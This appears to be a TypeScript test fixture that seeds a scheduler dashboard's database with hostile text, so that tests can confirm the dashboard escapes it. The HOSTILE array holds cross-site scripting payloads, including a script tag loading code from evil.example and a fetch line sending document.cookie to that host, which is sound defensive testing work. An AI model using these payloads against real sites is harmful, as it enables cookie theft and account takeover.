/**
 * A dashboard over a seeded PGlite clone: schedules applied the real way, runs and attempts
 * written as the runner would leave them, and hostile text wherever an author or a job controls it.
 */
import { sql } from 'drizzle-orm';
import type { Database } from '../../../src/db/client.js';
import { createDashboardHandler } from '../../../src/http/dashboard/index.js';
import { ManualClock } from '../../../src/shared/clock.js';
import { MARKUP_INJECTIONS } from '../../hostile/injection-strings.js';
import { serveHandlers, type TestServer } from '../../support/http-server.js';
import { databaseWith, insertRunsAt, NOW_MS, scheduleIdOf, scheduleSource } from '../../operations/runs/run-fixtures.js';

export { NOW_MS } from '../../operations/runs/run-fixtures.js';
export const TOKEN = 'test-token-0123456789abcdef';
export const HOSTILE = [...MARKUP_INJECTIONS, '"><img src=x onerror=alert(1)>', "'; fetch('https://evil.example/'+document.cookie); '", '</pre><script src="https://evil.example/x.js"></script>'];
/** A schedule whose name is hostile: names pass validation as DNS labels, but the dashboard must not rely on it. */
export const HOSTILE_NAME = '<script>alert("name")</script>';

const HOUR = 3_600_000;
export const CHARTED_RUNS = 12;

export interface SeededDashboard {
  database: Database;
  /** Run ids of `nightly`, oldest first: CHARTED_RUNS executed runs, then a MANUAL_REQUIRED one. */
  nightlyRuns: number[];
  waitingRunId: number;
}

export async function seedDashboard(): Promise<SeededDashboard> {
  const description = HOSTILE.join(' ');
  const database = await databaseWith([
    scheduleSource('nightly', { cron: '0 * * * *', job: { type: 'command', command: ['node', 'jobs/x.js', ...HOSTILE] } }, { description }),
    scheduleSource('approval-job', { approval: 'required' }),
    scheduleSource('victim'),
  ]);
  const slots = Array.from({ length: CHARTED_RUNS }, (_, i) => ({ slot: new Date(NOW_MS - (CHARTED_RUNS - i) * HOUR).toISOString(), status: i % 4 === 3 ? ('FAILED' as const) : ('SUCCESS' as const) }));
  const nightlyRuns = await insertRunsAt(database, 'nightly', [...slots, { slot: new Date(NOW_MS - 30 * 60_000).toISOString(), status: 'MANUAL_REQUIRED', reason: HOSTILE[0] }]);
  for (const [index, runId] of nightlyRuns.slice(0, CHARTED_RUNS).entries()) {
    const slotMs = NOW_MS - (CHARTED_RUNS - index) * HOUR;
    const startedAt = new Date(slotMs + 1000 + index * 100).toISOString();
    const finishedAt = new Date(slotMs + 10_000 + index * 1000).toISOString();
    const failed = index % 4 === 3;
    await database.db.execute(sql`update schedule_runs set started_at = ${startedAt}::timestamptz, finished_at = ${finishedAt}::timestamptz, attempts = 1 where id = ${runId}`);
    await database.db.execute(
      sql`insert into run_attempts (run_id, attempt, scheduled_for, runner_id, status, started_at, finished_at, exit_code, error, stdout_tail, stderr_tail)
          select ${runId}, 1, scheduled_for, ${'runner-1'}, ${failed ? 'FAILED' : 'SUCCEEDED'}, ${startedAt}::timestamptz, ${finishedAt}::timestamptz, ${failed ? 1 : 0},
            ${failed ? HOSTILE.join('\n') : null}, ${`line one\n${HOSTILE.join('\n')}\nlast line`}, ${failed ? `Error: ${HOSTILE[2]}` : null}
          from schedule_runs where id = ${runId}`,
    );
  }
  const [waitingRunId] = await insertRunsAt(database, 'approval-job', [{ slot: new Date(NOW_MS - 2 * HOUR).toISOString(), status: 'MANUAL_REQUIRED' }]);
  const victimId = await scheduleIdOf(database, 'victim');
  await database.db.execute(sql`update schedules set name = ${HOSTILE_NAME} where id = ${victimId}`);
  return { database, nightlyRuns, waitingRunId: waitingRunId! };
}

export async function serveDashboard(database: Database, options: { allowActions: boolean; token?: string }): Promise<TestServer> {
  const handler = createDashboardHandler({ database, clock: new ManualClock(NOW_MS), allowActions: options.allowActions, token: options.token });
  return serveHandlers([handler]);
}
